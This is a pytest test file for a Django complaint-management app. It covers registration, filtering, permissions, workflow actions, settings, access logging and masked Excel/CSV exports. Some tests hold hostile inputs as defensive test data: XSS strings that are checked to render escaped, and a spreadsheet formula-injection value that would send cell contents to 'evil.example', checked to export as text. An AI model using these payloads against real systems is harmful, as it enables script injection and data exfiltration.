"""Complaint pages: register, lists with filters, the complaint page and its actions, settings, statistics."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.utils import timezone

from complaints import services
from complaints.choices import Status
from complaints.models import Complaint, ComplaintCategory
from tests.downloads import csv_rows, xlsx_rows, xlsx_sheet

pytestmark = pytest.mark.django_db

FORM = {
    "complainant_name": "赵淑珍",
    "complainant_phone": "139 0000 1111",
    "subject": "收费有误",
    "statement": "本月热费多收了两百元。",
    "remedy_sought": "退还多收费用",
    "channel": "phone",
    "severity": "normal",
    "kind": "customer",
}


@pytest.fixture
def client(client, settings):
    """Pages in English for exact message assertions (the UI is Chinese unless the language switch says otherwise)."""
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def _form(category, changes=None):
    return {**FORM, "category": str(category.pk), **(changes or {})}


# --- register ---------------------------------------------------------------------------------------------


def test_an_agent_registers_from_the_page_and_lands_on_the_complaint(client, agent, category):
    client.force_login(agent)
    assert client.get("/complaints/new/?phone=13900001111").status_code == 200

    response = client.post("/complaints/new/", _form(category))

    complaint = Complaint.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/complaints/{complaint.number}/"
    assert (complaint.owner, complaint.complainant_phone, complaint.remedy_sought) == (
        agent,
        "13900001111",
        "退还多收费用",
    )


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"complainant_phone": ""}, "This field may not be blank."),
        ({"complainant_phone": "12"}, "too short or too long to be a phone number"),
        ({"category": "999999"}, "Unknown complaint category"),
        ({"statement": ""}, "This field may not be blank."),
        ({"statement": "长" * 5001}, "no more than 5000 characters"),
        ({"accepted_at": "2999-01-01T09:00"}, "cannot be accepted in the future"),
    ],
)
def test_bad_registrations_show_the_form_again_with_the_message(client, agent, category, changes, message):
    client.force_login(agent)

    response = client.post("/complaints/new/", _form(category, changes))

    assert response.status_code == 400
    assert message in response.content.decode()
    assert Complaint.objects.count() == 0


def test_a_10_mb_description_on_the_page_is_a_clear_400(client, agent, category):
    client.force_login(agent)

    response = client.post("/complaints/new/", _form(category, {"statement": "x" * (10 * 1024 * 1024)}))

    assert response.status_code == 400
    assert Complaint.objects.count() == 0


def test_html_in_any_field_is_shown_escaped(client, agent, category, register):
    complaint = register(
        agent, subject="<script>alert(1)</script>", statement="<b>加粗</b>", complainant_name="<i>x</i>"
    )
    services.complaint_note(complaint=complaint, actor=agent, text="<img src=x onerror=alert(2)>")
    client.force_login(agent)

    detail = client.get(f"/complaints/{complaint.number}/").content.decode()
    listing = client.get("/complaints/").content.decode()

    for page in (detail, listing):
        assert "<script>alert(1)</script>" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<img src=x" not in detail
    assert "&lt;b&gt;加粗&lt;/b&gt;" in detail


def test_registering_needs_the_permission(client, station_user, category):
    client.force_login(station_user)

    assert client.get("/complaints/new/").status_code == 403
    assert client.post("/complaints/new/", _form(category)).status_code == 403
    assert Complaint.objects.count() == 0


def test_anonymous_users_are_sent_to_login(client, register, agent):
    complaint = register(agent)

    for url in ["/complaints/", "/complaints/mine/", "/complaints/new/", f"/complaints/{complaint.number}/"]:
        assert client.get(url).status_code == 302
    assert client.post(f"/complaints/{complaint.number}/do/note/", {"text": "x"}).status_code == 302
    assert complaint.entries.count() == 1


# --- lists --------------------------------------------------------------------------------------------------


def test_the_supervisor_list_filters_overdue_and_due_today(client, supervisor, agent, other_agent, register):
    late = register(agent, subject="逾期的")
    today = register(other_agent, subject="今天到期")
    later = register(agent, subject="还早")
    Complaint.objects.filter(pk=late.pk).update(due_at=timezone.now() - timedelta(hours=1))
    end_of_today = timezone.localtime().replace(hour=23, minute=59, second=0)
    Complaint.objects.filter(pk=today.pk).update(due_at=max(end_of_today, timezone.now() + timedelta(minutes=1)))
    client.force_login(supervisor)

    overdue = client.get("/complaints/?overdue=true").content.decode()
    due_today = client.get("/complaints/?due_today=true").content.decode()
    by_owner = client.get(f"/complaints/?owner={other_agent.pk}").content.decode()

    assert late.number in overdue and today.number not in overdue and later.number not in overdue
    assert today.number in due_today and later.number not in due_today
    assert today.number in by_owner and late.number not in by_owner


def test_the_list_answers_htmx_with_the_rows_only(client, supervisor, agent, register):
    complaint = register(agent)
    client.force_login(supervisor)

    response = client.get("/complaints/?status=registered", HTTP_HX_REQUEST="true")

    assert response.status_code == 200
    assert complaint.number in response.content.decode()
    assert "<html" not in response.content.decode()


def test_my_complaints_lists_what_i_own_or_handle(client, agent, other_agent, register):
    mine = register(agent)
    theirs = register(other_agent)
    handled = register(other_agent, subject="协办")
    services.complaint_add_handler(complaint=handled, actor=other_agent, user=agent)
    client.force_login(agent)

    page = client.get("/complaints/mine/").content.decode()

    assert mine.number in page and handled.number in page and theirs.number not in page


def test_bad_list_filters_are_a_400_page_not_a_500(client, supervisor):
    client.force_login(supervisor)

    assert client.get("/complaints/?registered_from=notadate").status_code == 400
    assert client.get("/complaints/?page=abc").status_code == 200


def test_the_list_renders_50_rows_with_a_constant_query_count(
    client, supervisor, agent, register, django_assert_max_num_queries
):
    client.force_login(supervisor)
    register(agent)
    client.get("/complaints/")
    with django_assert_max_num_queries(40) as few:
        client.get("/complaints/")
    for _ in range(55):
        register(agent, send_sms=False)

    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get("/complaints/")

    assert response.content.decode().count('href="/complaints/26') == 50


def test_station_staff_cannot_open_complaint_pages(client, station_user, register, agent):
    complaint = register(agent)
    client.force_login(station_user)

    assert client.get("/complaints/").status_code == 403
    assert client.get(f"/complaints/{complaint.number}/").status_code == 404


# --- the complaint page -----------------------------------------------------------------------------------


def test_the_complaint_page_shows_the_timeline_and_only_the_users_actions(client, agent, other_agent, register):
    complaint = register(agent)
    services.complaint_note(complaint=complaint, actor=agent, text="已联系维修站核实")

    client.force_login(agent)
    owner_page = client.get(f"/complaints/{complaint.number}/").content.decode()
    client.force_login(other_agent)
    other_page = client.get(f"/complaints/{complaint.number}/").content.decode()

    assert "已联系维修站核实" in owner_page
    assert f"/complaints/{complaint.number}/do/reply/" in owner_page
    assert f"/complaints/{complaint.number}/do/reply/" not in other_page
    assert f"/complaints/{complaint.number}/do/note/" in other_page
    assert "13812345678" in owner_page and "13812345678" not in other_page


def test_the_complaint_page_has_a_constant_query_count(
    client, supervisor, agent, other_agent, register, quality, django_assert_max_num_queries
):
    complaint = register(agent)
    client.force_login(supervisor)
    client.get(f"/complaints/{complaint.number}/")
    with django_assert_max_num_queries(40) as few:
        client.get(f"/complaints/{complaint.number}/")
    services.complaint_add_handler(complaint=complaint, actor=agent, user=other_agent)
    services.complaint_set_responsibility(complaint=complaint, actor=agent, shares=[(quality, 100)])
    for n in range(10):
        services.complaint_note(complaint=complaint, actor=agent, text=f"进展{n}")

    with django_assert_max_num_queries(len(few.captured_queries)):
        client.get(f"/complaints/{complaint.number}/")


def test_an_action_from_the_page_runs_and_redirects(client, agent, register):
    complaint = register(agent)
    client.force_login(agent)
    promise = (timezone.localtime() + timedelta(hours=3)).strftime("%Y-%m-%dT%H:%M")

    response = client.post(
        f"/complaints/{complaint.number}/do/reply/", {"text": "已收到,正在调查", "next_reply_at": promise}
    )

    assert response.status_code == 302
    complaint.refresh_from_db()
    assert complaint.first_replied_at is not None
    assert complaint.commitments.count() == 2


def test_an_illegal_action_from_the_page_shows_the_reason(client, agent, register):
    complaint = register(agent)
    client.force_login(agent)

    response = client.post(f"/complaints/{complaint.number}/do/close/", {"customer_accepted": "true"})

    assert response.status_code == 409
    assert "is not possible while the complaint is" in response.content.decode()
    complaint.refresh_from_db()
    assert complaint.status == Status.REGISTERED


def test_a_transfer_from_the_page_needs_a_supervisor(client, agent, other_agent, supervisor, register):
    complaint = register(agent)

    client.force_login(agent)
    refused = client.post(
        f"/complaints/{complaint.number}/do/transfer/", {"new_owner": other_agent.agent_number, "reason": "x"}
    )
    client.force_login(supervisor)
    missing_reason = client.post(
        f"/complaints/{complaint.number}/do/transfer/", {"new_owner": other_agent.agent_number}
    )
    done = client.post(
        f"/complaints/{complaint.number}/do/transfer/", {"new_owner": other_agent.agent_number, "reason": "休假"}
    )

    assert (refused.status_code, missing_reason.status_code, done.status_code) == (403, 400, 302)
    complaint.refresh_from_db()
    assert complaint.owner == other_agent


def test_shares_from_the_page_must_sum_to_100(client, agent, register, quality, repair):
    complaint = register(agent)
    client.force_login(agent)

    bad = client.post(
        f"/complaints/{complaint.number}/do/responsibility/",
        {"department": [quality.pk, repair.pk], "percent": ["50", "40"]},
    )
    good = client.post(
        f"/complaints/{complaint.number}/do/responsibility/",
        {"department": [quality.pk, repair.pk, ""], "percent": ["50", "50", ""], "loss_amount": "120"},
    )

    assert bad.status_code == 400
    assert "must add up to exactly 100%" in bad.content.decode()
    assert good.status_code == 302
    assert complaint.shares.filter(superseded_at__isnull=True).count() == 2


def test_an_amount_of_abc_on_the_page_is_a_form_error(client, agent, register):
    complaint = register(agent)
    Complaint.objects.filter(pk=complaint.pk).update(status=Status.INVESTIGATING)
    client.force_login(agent)

    response = client.post(
        f"/complaints/{complaint.number}/do/propose/",
        {"resolution": "赔偿", "remedy_type": "compensation", "remedy_amount": "abc"},
    )

    assert response.status_code == 400
    complaint.refresh_from_db()
    assert complaint.status == Status.INVESTIGATING


# --- settings (C-2, C-8, X-6) ---------------------------------------------------------------------------------


def test_a_supervisor_changes_a_category_policy_and_old_deadlines_stay(client, supervisor, agent, register, category):
    complaint = register(agent)
    due = complaint.due_at
    client.force_login(supervisor)

    response = client.post(
        f"/complaints/settings/category/{category.pk}/",
        {
            "code": category.code,
            "name": category.name,
            "domestic_days": "5",
            "foreign_days": "7",
            "working_days": "on",
            "is_active": "on",
            "sort_order": "0",
        },
    )

    assert response.status_code == 302
    category.refresh_from_db()
    assert (category.domestic_days, category.working_days) == (5, True)
    assert category.history.first().history_user == supervisor
    complaint.refresh_from_db()
    assert complaint.due_at == due
    assert register(agent).deadline_days == 5


def test_a_bad_policy_is_a_form_error(client, supervisor, category):
    client.force_login(supervisor)

    response = client.post(
        f"/complaints/settings/category/{category.pk}/",
        {"code": category.code, "name": category.name, "domestic_days": "-1", "foreign_days": "abc", "sort_order": "0"},
    )

    assert response.status_code == 400
    category.refresh_from_db()
    assert category.domestic_days == 15


def test_agents_cannot_edit_settings(client, agent, category):
    client.force_login(agent)

    assert client.get("/complaints/settings/").status_code == 403
    assert client.post(f"/complaints/settings/category/{category.pk}/", {"domestic_days": "1"}).status_code == 403
    assert ComplaintCategory.objects.get(pk=category.pk).domestic_days == 15


def test_settings_pages_render_for_supervisors(client, supervisor, levels):
    client.force_login(supervisor)

    assert client.get("/complaints/settings/").status_code == 200
    assert client.get(f"/complaints/settings/level/{levels['manager'].pk}/").status_code == 200
    assert client.get("/complaints/settings/department/new/").status_code == 200
    assert client.get("/complaints/settings/nonsense/new/").status_code == 404


def test_x3_showing_a_linked_customers_phone_in_full_is_logged(client, agent, other_agent, register):
    from compliance.models import AccessLogEntry
    from tests.factories import CustomerFactory

    customer = CustomerFactory()
    complaint = register(agent, customer=customer)

    client.force_login(other_agent)  # masked for someone not working on it: nothing to log
    client.get(f"/complaints/{complaint.number}/")
    assert AccessLogEntry.objects.count() == 0
    client.force_login(agent)
    client.get(f"/complaints/{complaint.number}/")

    entry = AccessLogEntry.objects.get()
    assert (entry.user, entry.customer, entry.unmasked, entry.channel) == (agent, customer, True, "page")
    assert entry.purpose == f"客诉 {complaint.number}"  # the reason, in words


def test_d2_the_filtered_list_exports_to_excel_with_personal_data_masked(
    client, team_lead, supervisor, agent, register
):
    late = register(agent, subject="逾期的")
    register(agent, subject="还早")
    Complaint.objects.filter(pk=late.pk).update(due_at=timezone.now() - timedelta(hours=1))
    client.force_login(team_lead)  # sees every complaint, may not see personal data in full

    response = client.get("/complaints/?overdue=true&export=xlsx")
    client.force_login(supervisor)  # customers.view_customer_unmasked and cleared for top secret
    full = client.get("/complaints/?overdue=true&export=csv")

    assert response.status_code == 200
    rows = xlsx_rows(response)
    assert len(rows) == 2
    assert rows[1][0] == late.number
    assert rows[1][7:9] == ["王**", "138****5678"]
    lines = csv_rows(full)
    assert len(lines) == 2 and lines[1][7:9] == ["王建华", "13812345678"]


def test_c6_the_list_finds_complaints_whose_promised_reply_was_missed(client, supervisor, agent, register):
    missed = register(agent, subject="答复超时")
    kept = register(agent, subject="按时")
    Complaint.objects.filter(pk=missed.pk).update(next_reply_due_at=timezone.now() - timedelta(minutes=5))
    client.force_login(supervisor)

    page = client.get("/complaints/?reply_overdue=true").content.decode()

    assert missed.number in page and kept.number not in page


def test_c8_a_supervisor_sets_the_approval_thresholds_in_the_app(
    client, supervisor, gm, agent, register, quality, levels
):
    from decimal import Decimal

    from complaints.choices import CauseClass

    client.force_login(supervisor)
    response = client.post(
        f"/complaints/settings/level/{levels['manager'].pk}/",
        {"rank": "1", "name": "部门经理", "max_amount": "5000", "members": [supervisor.pk]},
    )
    assert response.status_code == 302
    complaint = register(agent)
    services.complaint_investigate(complaint=complaint, actor=agent)
    services.complaint_classify(complaint=complaint, actor=agent, cause_class=CauseClass.QUALITY)
    services.complaint_set_responsibility(complaint=complaint, actor=agent, shares=[(quality, 100)])

    services.complaint_propose(
        complaint=complaint, actor=agent, resolution="赔偿", remedy_type="compensation", remedy_amount=Decimal("3000")
    )

    complaint.refresh_from_db()
    assert complaint.required_level == levels["manager"]
    services.complaint_approve(complaint=complaint, actor=supervisor)  # 3000 is now within the manager's level
    complaint.refresh_from_db()
    assert complaint.approved_by == supervisor
    assert levels["manager"].history.first().history_user == supervisor


def test_a_bad_threshold_is_a_form_error(client, supervisor, levels):
    client.force_login(supervisor)

    response = client.post(
        f"/complaints/settings/level/{levels['manager'].pk}/", {"rank": "1", "name": "x", "max_amount": "-1"}
    )

    assert response.status_code == 400
    levels["manager"].refresh_from_db()
    assert levels["manager"].max_amount == 1000


def test_actions_post_in_place_with_htmx_and_errors_are_swapped_in(client, agent, register):
    complaint = register(agent)
    client.force_login(agent)

    page = client.get(f"/complaints/{complaint.number}/").content.decode()
    refused = client.post(
        f"/complaints/{complaint.number}/do/close/",
        {"customer_accepted": "true"},
        HTTP_HX_REQUEST="true",
        HTTP_HX_BOOSTED="true",
    )

    assert 'hx-boost="true"' in page and 'hx-select="#complaint-main"' in page
    assert refused.status_code == 409
    assert 'id="complaint-main"' in refused.content.decode()


def test_d2_the_export_keeps_a_formula_subject_as_text(client, supervisor, agent, register):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    register(agent, subject=evil)
    client.force_login(supervisor)

    response = client.get("/complaints/", {"export": "xlsx"})
    as_csv = client.get("/complaints/", {"export": "csv"})

    subject = xlsx_sheet(response)["B2"]
    assert (subject.value, subject.data_type) == (evil, "s")
    assert csv_rows(as_csv)[1][1] == "'" + evil
